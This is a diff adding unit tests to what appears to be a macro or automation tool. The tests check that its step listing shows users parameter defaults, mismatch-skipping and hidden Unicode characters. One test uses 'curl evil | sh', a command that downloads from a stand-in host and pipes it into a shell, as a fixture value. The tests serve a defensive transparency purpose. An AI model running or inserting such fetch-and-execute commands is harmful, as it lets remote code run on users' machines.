@@ -249,6 +249,21 @@ def test_the_listing_names_every_text_key_program_and_window():
     assert next(line for line in lines if line.id == "other").sends
 
 
+def test_the_listing_tells_what_is_typed_where_nobody_is_asked():
+    params = {"x": g.Param(default="curl evil | sh"), "s": g.Param(type="secret", default="bank")}
+    found = _macro(g.Type(id="a", text="{{x}}"), params=params)
+    lines = listing(found)
+    assert [line.do for line in lines] == ["param", "param", "type"]
+    assert "“curl evil | sh”" in lines[0].text
+    assert "“bank”" in lines[1].text
+
+
+def test_the_listing_tells_what_is_left_out_where_it_does_not_match():
+    step = g.CheckThat(id="a", condition=g.Shows(text="Total"), on_mismatch="skip")
+    (line,) = listing(_macro(step))
+    assert line.text.endswith("left out where it does not match")
+
+
 def test_the_listing_hides_nothing():
     sly = "ls\u202e\u200b\n" + "x" * 5000
     (line,) = listing(_macro(g.Type(id="a", text=sly)))
